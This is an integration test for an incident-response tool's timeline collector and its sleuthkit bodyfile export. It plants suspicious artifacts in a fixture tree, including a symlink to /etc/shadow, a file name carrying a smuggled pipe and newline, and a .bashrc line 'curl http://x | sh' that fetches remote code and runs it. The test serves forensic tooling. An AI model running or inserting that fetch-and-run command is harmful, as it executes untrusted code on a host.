// SPDX-License-Identifier: Apache-2.0
// The timeline collector end to end: the real binary collects a tree through --root, the bundle
// verifies, `export --format bodyfile` writes one line per record with the planted names intact
// in escaped form, and mactime (sleuthkit) reads the file.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <sstream>

#include <fmt/format.h>

#include "../unit/fixture_util.hpp"
#include "irsnap/export.hpp"
#include "run_util.hpp"

namespace irsnap::test {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

void write(const fs::path& path, const std::string& text) {
    fs::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << text;
}

struct PlantedTree {
    TempDir tmp{"irsnap-timeline-it"};
    fs::path root = tmp.path() / "root";
    fs::path out = tmp.path() / "out";
    PlantedTree() {
        write(root / "tmp/.x/dropper", "planted");
        fs::permissions(root / "tmp/.x/dropper", fs::perms(0755));
        write(root / "dev/shm/a|b\nc", "pipe and newline");
        fs::create_symlink("/etc/shadow", root / "tmp/l");
        EXPECT_EQ(::mkfifo((root / "tmp/fifo").c_str(), 0600), 0);
        write(root / "etc/passwd", "alice:x:1000:1000::/home/alice:/bin/bash\n");
        write(root / "home/alice/.bashrc", "curl http://x | sh\n");
        // A fixed time the bodyfile and mactime must show: 2024-02-29T12:00:00Z.
        const timespec times[2] = {{1709208000, 0}, {1709208000, 0}};
        EXPECT_EQ(::utimensat(AT_FDCWD, (root / "tmp/.x/dropper").c_str(), times, 0), 0);
    }
};

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);) out.push_back(line);
    return out;
}

TEST(Timeline, CollectVerifyAndExportBodyfile) {
    PlantedTree t;
    auto run = run_command({irsnap_binary(), "collect", "-q", "--collectors", "timeline", "--root",
                            t.root.string(), "-o", t.out.string()});
    ASSERT_EQ(run.exit_code, 0) << run.err;
    const fs::path bundle = only_bundle(t.out);
    auto verify = run_command({irsnap_binary(), "verify", bundle.string()});
    EXPECT_EQ(verify.exit_code, 0) << verify.out << verify.err;

    const auto records = read_jsonl(artifact(bundle, "timeline"));
    std::map<std::string, json> by_path;
    for (const auto& r : records) by_path[r["path"].get<std::string>()] = r;
    ASSERT_TRUE(by_path.count("/tmp/.x/dropper"));
    EXPECT_EQ(by_path["/tmp/.x/dropper"]["mtime"], "2024-02-29T12:00:00.000000Z");
    EXPECT_EQ(by_path["/tmp/l"]["link_target"], "/etc/shadow");
    EXPECT_EQ(by_path["/tmp/fifo"]["file_type"], "fifo");
    EXPECT_TRUE(by_path.count("/dev/shm/a|b\nc"));
    EXPECT_TRUE(by_path.count("/home/alice/.bashrc"));

    const fs::path body = t.tmp.path() / "host.body";
    auto exported = run_command(
        {irsnap_binary(), "export", bundle.string(), "--format", "bodyfile", "-o", body.string()});
    ASSERT_EQ(exported.exit_code, 0) << exported.err;
    EXPECT_NE(exported.err.find(fmt::format("{} lines written", records.size())), std::string::npos)
        << exported.err;
    const auto lines = lines_of(read_text_file(body));
    ASSERT_EQ(lines.size(), records.size());
    for (const auto& line : lines) {
        EXPECT_EQ(std::count(line.begin(), line.end(), '|'), 10) << line;
    }
    struct ::stat st {};
    ASSERT_EQ(::lstat((t.root / "tmp/.x/dropper").c_str(), &st), 0);
    const std::string dropper =
        fmt::format("0|/tmp/.x/dropper|{}|-rwxr-xr-x|{}|{}|7|1709208000|1709208000|", st.st_ino,
                    st.st_uid, st.st_gid);
    bool found = false, escaped = false, link = false;
    for (const auto& line : lines) {
        found = found || line.rfind(dropper, 0) == 0;
        escaped = escaped || line.rfind("0|/dev/shm/a\\x7cb\\x0ac|", 0) == 0;
        link = link || line.rfind("0|/tmp/l -> /etc/shadow|", 0) == 0;
    }
    EXPECT_TRUE(found) << read_text_file(body);
    EXPECT_TRUE(escaped) << read_text_file(body);
    EXPECT_TRUE(link) << read_text_file(body);

    // Several bundles in one file: each name says its host.
    auto two = run_command({irsnap_binary(), "export", bundle.string(), bundle.string(), "--format",
                            "bodyfile", "-o", "-"});
    ASSERT_EQ(two.exit_code, 0) << two.err;
    const auto both = lines_of(two.out);
    ASSERT_EQ(both.size(), 2 * records.size());
    const json manifest = json::parse(read_text_file(bundle / "manifest.json"));
    const std::string host = manifest["host"]["hostname"];
    EXPECT_EQ(both[0].rfind("0|" + host + ":/", 0), 0u) << both[0];

    // TSK's own reader takes the file: the planted file's modification shows at its time.
    const bool have_mactime = ::access("/usr/bin/mactime", X_OK) == 0;
    IRSNAP_NEED_TOOL(have_mactime, "mactime (sleuthkit)");
    auto mac = run_command({"/usr/bin/mactime", "-b", body.string(), "-z", "UTC", "-d", "-y"});
    ASSERT_EQ(mac.exit_code, 0) << mac.err;
    bool dated = false;
    for (const auto& line : lines_of(mac.out)) {
        if (line.find("/tmp/.x/dropper") != std::string::npos &&
            line.find("2024-02-29T12:00:00") != std::string::npos &&
            line.find("m") != std::string::npos) {
            dated = true;
        }
    }
    EXPECT_TRUE(dated) << mac.out;
}

TEST(Timeline, RecordLimitMakesThePartialRunSayWhere) {
    PlantedTree t;
    auto run = run_command({irsnap_binary(), "collect", "-q", "--collectors", "timeline", "--root",
                            t.root.string(), "--timeline-max-entries", "2", "-o", t.out.string()});
    ASSERT_EQ(run.exit_code, 1) << run.err;  // partial: reduced coverage
    const fs::path bundle = only_bundle(t.out);
    EXPECT_EQ(read_jsonl(artifact(bundle, "timeline")).size(), 2u);
    const json manifest = json::parse(read_text_file(bundle / "manifest.json"));
    EXPECT_EQ(manifest["options"]["timeline_max_entries"], 2);
    json entry;
    for (const auto& c : manifest["collectors"]) {
        if (c["name"] == "timeline") entry = c;
    }
    ASSERT_TRUE(entry.is_object());
    EXPECT_EQ(entry["status"], "partial");
    const std::string notes = entry.dump();
    EXPECT_NE(notes.find("--timeline-max-entries limit (2 records) in /tmp"), std::string::npos)
        << notes;
    EXPECT_NE(notes.find("/home"), std::string::npos) << notes;
}

TEST(Timeline, BodyfileFormatIsAcceptedOnlyWithItsArguments) {
    TempDir tmp("irsnap-timeline-it");
    auto bad = run_command({irsnap_binary(), "export", "/nonexistent", "--format", "bodyfiles",
                            "-o", (tmp.path() / "x").string()});
    EXPECT_EQ(bad.exit_code, 2);
    EXPECT_NE(bad.err.find("bodyfile"), std::string::npos) << bad.err;
    auto help = run_command({irsnap_binary(), "export", "--help"});
    EXPECT_NE(help.out.find("bodyfile"), std::string::npos);
}

}  // namespace
}  // namespace irsnap::test
